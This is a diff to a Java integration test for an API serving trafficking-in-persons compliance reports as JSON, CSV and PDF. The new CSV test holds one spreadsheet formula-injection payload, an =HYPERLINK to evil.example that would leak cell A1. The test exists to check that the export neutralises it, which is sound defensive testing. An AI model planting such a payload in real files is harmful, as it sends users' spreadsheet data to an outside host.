@@ -6,35 +6,38 @@ import static org.awaitility.Awaitility.await;
 import static org.hamcrest.Matchers.equalTo;
 
 import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.math.BigDecimal;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.ArrayList;
+import java.util.LinkedHashMap;
 import java.util.List;
-import java.util.Properties;
+import java.util.Map;
 import java.util.UUID;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.quarkus.test.common.ResourceArg;
 import io.quarkus.test.common.WithTestResource;
 import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
+import io.restassured.path.json.JsonPath;
 import io.restassured.specification.RequestSpecification;
-import jakarta.inject.Inject;
-import org.apache.kafka.clients.producer.KafkaProducer;
-import org.apache.kafka.clients.producer.ProducerConfig;
-import org.apache.kafka.clients.producer.ProducerRecord;
-import org.apache.kafka.common.serialization.StringSerializer;
 import org.apache.pdfbox.Loader;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.text.PDFTextStripper;
-import org.eclipse.microprofile.config.inject.ConfigProperty;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeEach;
+import org.assertj.core.api.SoftAssertions;
 import org.junit.jupiter.api.Test;
 import org.rectrack.deploy.infra.testing.InfrastructureTestResource;
 import org.rectrack.deploy.infra.testing.TestTokens;
-import org.rectrack.events.EventCodec;
 import org.rectrack.events.EventEnvelope;
 import org.rectrack.events.EventType;
 import org.rectrack.events.evidence.Assessment;
@@ -47,78 +50,75 @@ import org.rectrack.events.recommendations.RecommendationChanged;
 import org.rectrack.events.recommendations.RecommendationState;
 import org.rectrack.events.recommendations.ReportChanged;
 import org.rectrack.events.recommendations.Tier;
+import org.rectrack.gateway.TestEvents;
+import org.rectrack.gateway.TestEvents.CountryYear;
+import org.rectrack.platform.problem.Problem;
 
 /**
- * Year-end compliance reports from a read model fed through the real topics. Each test owns one year of
- * Laos, so tests never see each other's data.
+ * Year-end compliance reports from a read model fed through the real topics. Each test publishes its own report on a
+ * country-year no other data has, so tests never see each other's data.
  */
 @QuarkusTest
 @WithTestResource(value = InfrastructureTestResource.class, initArgs = @ResourceArg(name = "database", value = "gateway"))
 class ComplianceReportTest {
 
     private static final String LAO_SUMMARY = "ກະຊວງ ປ້ອງກັນ ຄວາມສະຫງົບ ໄດ້ຝຶກອົບຮົມ ຕຳຫຼວດ 300 ຄົນ";
-
-    @Inject
-    EventCodec codec;
-
-    @ConfigProperty(name = "kafka.bootstrap.servers")
-    String kafka;
-
-    private KafkaProducer<String, String> producer;
-
-    @BeforeEach
-    void connect() {
-        Properties properties = new Properties();
-        properties.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, kafka);
-        properties.put(ProducerConfig.KEY_SERIALIZER_CLASS_CONFIG, StringSerializer.class);
-        properties.put(ProducerConfig.VALUE_SERIALIZER_CLASS_CONFIG, StringSerializer.class);
-        producer = new KafkaProducer<>(properties);
-    }
-
-    @AfterEach
-    void disconnect() {
-        producer.close();
-    }
+    private static final String JSON = "application/json";
+    private static final String CSV = "text/csv";
+    private static final String PDF = "application/pdf";
+    private static final ObjectMapper MAPPER = new ObjectMapper();
 
     @Test
     void aReportAsOfACutOffKeepsItsBytesInEveryFormatWhateverHappensLater() {
-        Fixture laos = publishYear(2091);
+        Fixture fixture = publishYear();
         Instant cutOff = Instant.now();
-        byte[] json = download(laos.year, cutOff, "application/json");
-        byte[] csv = download(laos.year, cutOff, "text/csv");
-        byte[] pdf = download(laos.year, cutOff, "application/pdf");
+        byte[] json = download(fixture, cutOff, JSON);
+        byte[] csv = download(fixture, cutOff, CSV);
+        byte[] pdf = download(fixture, cutOff, PDF);
+        // Nothing happened to the data between the two instants: all but the instant and its fingerprint is the same.
+        assertThat(dataOf(download(fixture, Instant.now(), JSON))).isEqualTo(dataOf(json));
 
         // After the cut-off: the verified evidence is retracted, the second recommendation is fulfilled.
-        evidence(laos.training, laos.first, laos.year, Assessment.ADVANCES, EvidenceState.RETRACTED, 3, Visibility.PUBLIC);
+        evidence(fixture.training, fixture.first, fixture.where.year(), Assessment.ADVANCES, EvidenceState.RETRACTED, 3,
+                Visibility.PUBLIC);
         UUID fulfilment = UUID.randomUUID();
-        evidence(fulfilment, laos.second, laos.year, Assessment.FULFILLS, EvidenceState.VERIFIED, 1, Visibility.PUBLIC);
+        evidence(fulfilment, fixture.second, fixture.where.year(), Assessment.FULFILLS, EvidenceState.VERIFIED, 1,
+                Visibility.PUBLIC);
         await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> auditor()
-                .get("/api/v1/recommendations/" + laos.second)
+                .get("/api/v1/recommendations/" + fixture.second)
                 .then().statusCode(200).body("status", equalTo("IMPLEMENTED")));
 
         // Compared as text first, so that a failure shows where the two differ.
-        assertThat(new String(download(laos.year, cutOff, "application/json"), StandardCharsets.UTF_8))
+        assertThat(new String(download(fixture, cutOff, JSON), StandardCharsets.UTF_8))
                 .isEqualTo(new String(json, StandardCharsets.UTF_8));
-        assertThat(download(laos.year, cutOff, "application/json")).isEqualTo(json);
-        assertThat(download(laos.year, cutOff, "text/csv")).isEqualTo(csv);
-        assertThat(download(laos.year, cutOff, "application/pdf")).isEqualTo(pdf);
-        assertThat(download(laos.year, Instant.now(), "application/json")).isNotEqualTo(json);
+        assertThat(download(fixture, cutOff, JSON)).isEqualTo(json);
+        assertThat(download(fixture, cutOff, CSV)).isEqualTo(csv);
+        assertThat(download(fixture, cutOff, PDF)).isEqualTo(pdf);
+        // The same report as of now rests on the changed data, and says so.
+        byte[] later = download(fixture, Instant.now(), JSON);
+        JsonPath now = JsonPath.from(new String(later, StandardCharsets.UTF_8));
+        assertThat(now.getList("recommendations.status")).containsExactly("NO_EVIDENCE", "IMPLEMENTED");
+        assertThat(now.getList("recommendations[1].evidence.id")).containsExactly(fulfilment.toString());
+        assertThat(dataOf(later)).isNotEqualTo(dataOf(json));
     }
 
     @Test
     void theJsonReportExplainsEachStatusAndSummarisesTheYear() {
-        Fixture laos = publishYear(2092);
+        Fixture fixture = publishYear();
+        String country = fixture.where.country();
+        int year = fixture.where.year();
 
-        var report = auditor().accept("application/json")
+        var report = auditor().accept(JSON)
                 .queryParam("asOf", Instant.now().toString())
-                .get("/api/v1/compliance-reports/LAO/" + laos.year)
+                .get("/api/v1/compliance-reports/" + country + "/" + year)
                 .then().statusCode(200).extract().jsonPath();
 
         assertThat(report.getString("report.tier")).isEqualTo("TIER_2_WATCH_LIST");
-        assertThat(report.getList("recommendations.code")).containsExactly("LAO-" + laos.year + "-01", "LAO-" + laos.year + "-02");
+        assertThat(report.getList("recommendations.code"))
+                .containsExactly(country + "-" + year + "-01", country + "-" + year + "-02");
         assertThat(report.getList("recommendations.status")).containsExactly("IN_PROGRESS", "NO_EVIDENCE");
         assertThat(report.getString("recommendations[0].rule")).startsWith("SOME_ADVANCES");
-        assertThat(report.getList("recommendations[0].evidence.id")).containsExactly(laos.training.toString());
+        assertThat(report.getList("recommendations[0].evidence.id")).containsExactly(fixture.training.toString());
         assertThat(report.getString("recommendations[0].evidence[0].citation.title")).isEqualTo("Vientiane Times");
         assertThat(report.getInt("recommendations[0].pendingEvidence")).isEqualTo(1);
         assertThat(report.getInt("summary.total")).isEqualTo(2);
@@ -130,9 +130,9 @@ class ComplianceReportTest {
 
     @Test
     void theCsvOpensInASpreadsheetWithLaoTextIntact() {
-        Fixture laos = publishYear(2093);
+        Fixture fixture = publishYear();
 
-        byte[] csv = download(laos.year, Instant.now(), "text/csv");
+        byte[] csv = download(fixture, Instant.now(), CSV);
 
         assertThat(csv).startsWith(0xEF, 0xBB, 0xBF);
         String text = new String(csv, StandardCharsets.UTF_8);
@@ -142,12 +142,24 @@ class ComplianceReportTest {
     }
 
     @Test
-    void thePdfSetsLaoTextInAnEmbeddedLaoFont() throws IOException {
-        Fixture laos = publishYear(2094);
+    void aRecommendationTextThatStartsAFormulaIsNeutralisedInTheCsv() {
+        String formula = "\t=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")";
+        Fixture fixture = publishYear(formula);
 
-        try (PDDocument pdf = Loader.loadPDF(download(laos.year, Instant.now(), "application/pdf"))) {
+        String text = new String(download(fixture, Instant.now(), CSV), StandardCharsets.UTF_8);
+
+        assertThat(text).contains(",\"'" + formula.replace("\"", "\"\"") + "\",")
+                .doesNotContain("," + formula);
+    }
+
+    @Test
+    void thePdfSetsLaoTextInAnEmbeddedLaoFont() throws IOException {
+        Fixture fixture = publishYear();
+
+        try (PDDocument pdf = Loader.loadPDF(download(fixture, Instant.now(), PDF))) {
             String text = new PDFTextStripper().getText(pdf);
-            assertThat(text).contains("ສືບສວນ ແລະ ດຳເນີນຄະດີ").contains("LAO-" + laos.year + "-01")
+            assertThat(text).contains("ສືບສວນ ແລະ ດຳເນີນຄະດີ")
+                    .contains(fixture.where.country() + "-" + fixture.where.year() + "-01")
                     .contains("Figures from verified evidence");
             var resources = pdf.getPage(0).getResources();
             List<String> fonts = new ArrayList<>();
@@ -159,60 +171,152 @@ class ComplianceReportTest {
     }
 
     @Test
-    void restrictedEvidenceCountsInTheAuditorsReport() {
-        Fixture laos = publishYear(2095);
-        UUID restricted = UUID.randomUUID();
-        evidence(restricted, laos.second, laos.year, Assessment.NO_PROGRESS, EvidenceState.VERIFIED, 1, Visibility.RESTRICTED);
+    void theTypeIsNegotiatedFromAcceptWithItsQualityValues() {
+        Fixture fixture = publishYear();
+        // Accept as clients send it → the type answered. Equal preferences go to JSON, then CSV, then PDF.
+        Map<String, String> cases = new LinkedHashMap<>();
+        cases.put("*/*", JSON);
+        cases.put("application/*", JSON);
+        cases.put("text/*", CSV);
+        cases.put(PDF, PDF);
+        cases.put("text/csv; charset=UTF-8", CSV);
+        cases.put("text/csv;charset=utf-8", CSV);
+        cases.put("text/csv; header=present", CSV);
+        cases.put("application/json; charset=UTF-8", JSON);
+        cases.put("text/csv;charset=ISO-8859-1, application/pdf;q=0.5", PDF);
+        cases.put("text/*;q=0.2, text/csv;q=0.9, */*;q=0.5", CSV);
+        cases.put("text/*, text/csv;q=0, */*;q=0.1", JSON);
+        cases.put("application/pdf;q=0, */*", JSON);
+        cases.put("*/*, application/json;q=0", CSV);
+        cases.put("application/json;q=0.1, text/csv;q=0.9, application/pdf;q=0.5", CSV);
+        cases.put("text/*;q=0.5, application/pdf", PDF);
+        cases.put("text/csv, application/pdf", CSV);
+        cases.put("image/png, text/html;q=0.9, */*;q=0.1", JSON);
+        cases.put("application/pdf;q=0.001", PDF);
 
-        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> auditor().accept("application/json")
-                .get("/api/v1/compliance-reports/LAO/" + laos.year)
+        SoftAssertions softly = new SoftAssertions();
+        cases.forEach((accept, expected) -> {
+            var response = auditor().header("Accept", accept).queryParam("asOf", Instant.now().toString())
+                    .get(path(fixture.where)).then().extract();
+            softly.assertThat(response.statusCode()).as("status for Accept: %s", accept).isEqualTo(200);
+            softly.assertThat(response.contentType()).as("type for Accept: %s", accept).startsWith(expected);
+            softly.assertThat(response.header("Vary")).as("Vary for Accept: %s", accept).containsIgnoringCase("Accept");
+        });
+        softly.assertAll();
+    }
+
+    @Test
+    void withoutAnAcceptHeaderTheReportIsJson() throws IOException, InterruptedException {
+        Fixture fixture = publishYear();
+        // REST Assured always sends an Accept header; the JDK's client sends none unless told.
+        HttpRequest request = HttpRequest.newBuilder(URI.create(RestAssured.baseURI + ":" + RestAssured.port
+                + path(fixture.where) + "?asOf=" + Instant.now()))
+                .header("Authorization", "Bearer " + TestTokens.forRole("auditor")).GET().build();
+        try (HttpClient client = HttpClient.newHttpClient()) {
+            HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
+
+            assertThat(request.headers().firstValue("Accept")).isEmpty();
+            assertThat(response.statusCode()).isEqualTo(200);
+            assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
+                    type -> assertThat(type).startsWith(JSON));
+            assertThat(JsonPath.from(response.body()).getString("country")).isEqualTo(fixture.where.country());
+        }
+    }
+
+    @Test
+    void anAcceptThatAdmitsNoOfferedTypeIsNotAcceptableAndNamesTheTypesOffered() {
+        Fixture fixture = publishYear();
+        for (String accept : List.of("application/pdf;q=0", "*/*;q=0", "image/png", "text/html, application/xml",
+                "application/json;q=0, text/csv;q=0, application/pdf;q=0", "text/*;q=0, application/pdf;q=0",
+                "text/csv;charset=ISO-8859-1", "application/pdf;q=0.000, text/csv;q=0.0")) {
+            auditor().header("Accept", accept).queryParam("asOf", Instant.now().toString()).get(path(fixture.where)).then()
+                    .statusCode(406)
+                    .contentType(Problem.MEDIA_TYPE)
+                    .body("status", equalTo(406))
+                    .body("errors[0].field", equalTo("Accept"))
+                    .body("errors[0].message", equalTo("must admit one of application/json, text/csv, application/pdf"));
+        }
+    }
+
+    @Test
+    void aMalformedAcceptIsABadRequest() {
+        Fixture fixture = publishYear();
+
+        for (String accept : List.of("not a media type", "application/pdf;q=2", "*/*;q=high", "text/csv;q=0.0001")) {
+            auditor().header("Accept", accept).queryParam("asOf", Instant.now().toString()).get(path(fixture.where))
+                    .then().statusCode(400).contentType(Problem.MEDIA_TYPE);
+        }
+    }
+
+    @Test
+    void restrictedEvidenceCountsInTheAuditorsReport() {
+        Fixture fixture = publishYear();
+        UUID restricted = UUID.randomUUID();
+        evidence(restricted, fixture.second, fixture.where.year(), Assessment.NO_PROGRESS, EvidenceState.VERIFIED, 1,
+                Visibility.RESTRICTED);
+
+        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> auditor().accept(JSON)
+                .get(path(fixture.where))
                 .then().statusCode(200).body("recommendations[1].status", equalTo("NOT_STARTED")));
     }
 
     @Test
     void onlyAnAuditorMayDownloadAReport() {
-        given().auth().oauth2(TestTokens.forRole("diplomat")).accept("application/json")
-                .get("/api/v1/compliance-reports/LAO/2023")
-                .then().statusCode(403).contentType("application/problem+json");
+        Fixture fixture = publishYear();
+
+        for (String role : List.of("diplomat", "ngo", "reviewer", "admin")) {
+            given().auth().oauth2(TestTokens.forRole(role)).accept(JSON).get(path(fixture.where))
+                    .then().statusCode(403).contentType(Problem.MEDIA_TYPE);
+        }
+        given().accept(JSON).get(path(fixture.where)).then().statusCode(401).contentType(Problem.MEDIA_TYPE);
     }
 
     @Test
     void anUnknownCountryOrABadOrFutureCutOffIsABadRequest() {
-        auditor().accept("application/json").get("/api/v1/compliance-reports/XXX/2023")
+        CountryYear where = TestEvents.uniqueCountryYear();
+
+        auditor().accept(JSON).get("/api/v1/compliance-reports/XXX/" + where.year())
                 .then().statusCode(400).body("errors[0].field", equalTo("country"));
-        auditor().accept("application/json").queryParam("asOf", "last christmas")
-                .get("/api/v1/compliance-reports/LAO/2023")
+        auditor().accept(JSON).queryParam("asOf", "last christmas").get(path(where))
                 .then().statusCode(400).body("errors[0].field", equalTo("asOf"));
-        auditor().accept("application/json").queryParam("asOf", Instant.now().plusSeconds(3600).toString())
-                .get("/api/v1/compliance-reports/LAO/2023")
+        auditor().accept(JSON).queryParam("asOf", Instant.now().plusSeconds(3600).toString()).get(path(where))
                 .then().statusCode(400).body("errors[0].message", equalTo("must not be in the future"));
     }
 
     @Test
     void aYearWithoutAReportIsNotFound() {
-        auditor().accept("application/pdf").get("/api/v1/compliance-reports/LAO/2099")
-                .then().statusCode(404).contentType("application/problem+json");
+        CountryYear where = TestEvents.uniqueCountryYear();
+
+        for (String type : List.of(JSON, CSV, PDF)) {
+            auditor().accept(type).get(path(where)).then().statusCode(404).contentType(Problem.MEDIA_TYPE);
+        }
     }
 
     /** A report with two recommendations; verified training evidence with a figure on the first, one pending. */
-    private record Fixture(int year, UUID first, UUID second, UUID training) {
+    private record Fixture(CountryYear where, UUID first, UUID second, UUID training) {
     }
 
-    private Fixture publishYear(int year) {
+    private Fixture publishYear() {
+        return publishYear("Increase efforts to identify victims, including men, boys, and LGBTQI+ persons.");
+    }
+
+    private Fixture publishYear(String secondText) {
+        CountryYear where = TestEvents.uniqueCountryYear();
         UUID report = UUID.randomUUID();
         UUID first = UUID.randomUUID();
         UUID second = UUID.randomUUID();
         Instant now = Instant.now();
-        send(EventType.REPORT_CHANGED, report, 1, new ReportChanged(report, "LAO", year, Tier.TIER_2_WATCH_LIST,
-                "U.S. Department of State", year + " Trafficking in Persons Report: Laos", null,
+        send(EventType.REPORT_CHANGED, report, 1, new ReportChanged(report, where.country(), where.year(),
+                Tier.TIER_2_WATCH_LIST, "U.S. Department of State",
+                where.year() + " Trafficking in Persons Report: " + where.country(), null,
                 LocalDate.of(2023, 6, 15), null, null, 2, now));
-        send(EventType.RECOMMENDATION_CHANGED, first, 1, recommendation(first, report, year, 1,
+        send(EventType.RECOMMENDATION_CHANGED, first, 1, recommendation(first, report, where, 1,
                 "ສືບສວນ ແລະ ດຳເນີນຄະດີ ຜູ້ຄ້າມະນຸດ", now));
-        send(EventType.RECOMMENDATION_CHANGED, second, 1, recommendation(second, report, year, 2,
-                "Increase efforts to identify victims, including men, boys, and LGBTQI+ persons.", now));
+        send(EventType.RECOMMENDATION_CHANGED, second, 1, recommendation(second, report, where, 2, secondText, now));
         UUID training = UUID.randomUUID();
-        evidence(training, first, year, Assessment.ADVANCES, EvidenceState.VERIFIED, 2, Visibility.PUBLIC);
-        evidence(UUID.randomUUID(), first, year, Assessment.FULFILLS, EvidenceState.SUBMITTED, 1, Visibility.PUBLIC);
+        evidence(training, first, where.year(), Assessment.ADVANCES, EvidenceState.VERIFIED, 2, Visibility.PUBLIC);
+        evidence(UUID.randomUUID(), first, where.year(), Assessment.FULFILLS, EvidenceState.SUBMITTED, 1,
+                Visibility.PUBLIC);
         // Every event of the fixture applied (they travel on several partitions) before any test takes a cut-off.
         await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
             auditor().get("/api/v1/reports/" + report).then().statusCode(200);
@@ -220,12 +324,14 @@ class ComplianceReportTest {
             auditor().get("/api/v1/recommendations/" + first)
                     .then().statusCode(200).body("status", equalTo("IN_PROGRESS")).body("pendingCount", equalTo(1));
         });
-        return new Fixture(year, first, second, training);
+        return new Fixture(where, first, second, training);
     }
 
-    private static RecommendationChanged recommendation(UUID id, UUID report, int year, int rank, String text, Instant at) {
-        return new RecommendationChanged(id, report, "LAO-%d-%02d".formatted(year, rank), "LAO", year, rank, text, 1,
-                List.of(Pillar.PROSECUTION), List.of(), null, RecommendationState.ACTIVE, "CREATED", at);
+    private static RecommendationChanged recommendation(UUID id, UUID report, CountryYear where, int rank, String text,
+            Instant at) {
+        return new RecommendationChanged(id, report, "%s-%d-%02d".formatted(where.country(), where.year(), rank),
+                where.country(), where.year(), rank, text, 1, List.of(Pillar.PROSECUTION), List.of(), null,
+                RecommendationState.ACTIVE, "CREATED", at);
     }
 
     /** Evidence of an action on 1 March 2023; ADVANCES evidence states 300 officials trained in {@code year}. */
@@ -245,23 +351,33 @@ class ComplianceReportTest {
                 List.of(new EvidenceChanged.Transition(state, "someone", "lao-ngo", now, null)), state.name(), now));
     }
 
-    private <T> void send(EventType<T> type, UUID id, long version, T data) {
-        EventEnvelope<T> envelope = new EventEnvelope<>(UUID.randomUUID(), type.name(), type.schemaVersion(),
-                Instant.now(), id, version, data);
-        try {
-            producer.send(new ProducerRecord<>(type.topic(), id.toString(), codec.encode(envelope))).get();
-        } catch (Exception e) {
-            throw new IllegalStateException("could not send " + type.name(), e);
-        }
+    private static <T> void send(EventType<T> type, UUID id, long version, T data) {
+        TestEvents.publish(new EventEnvelope<>(UUID.randomUUID(), type.name(), type.schemaVersion(), Instant.now(), id,
+                version, data));
     }
 
     private static RequestSpecification auditor() {
         return given().auth().oauth2(TestTokens.forRole("auditor"));
     }
 
-    private static byte[] download(int year, Instant asOf, String type) {
+    private static String path(CountryYear where) {
+        return "/api/v1/compliance-reports/" + where.country() + "/" + where.year();
+    }
+
+    private static byte[] download(Fixture fixture, Instant asOf, String type) {
         return auditor().accept(type).queryParam("asOf", asOf.toString())
-                .get("/api/v1/compliance-reports/LAO/" + year)
+                .get(path(fixture.where))
                 .then().statusCode(200).extract().asByteArray();
+    }
+
+    /** A JSON report without what names the instant it was asked for: the data it shows. */
+    private static JsonNode dataOf(byte[] json) {
+        try {
+            ObjectNode report = (ObjectNode) MAPPER.readTree(json);
+            report.remove(List.of("asOf", "dataSha256"));
+            return report;
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
     }
 }
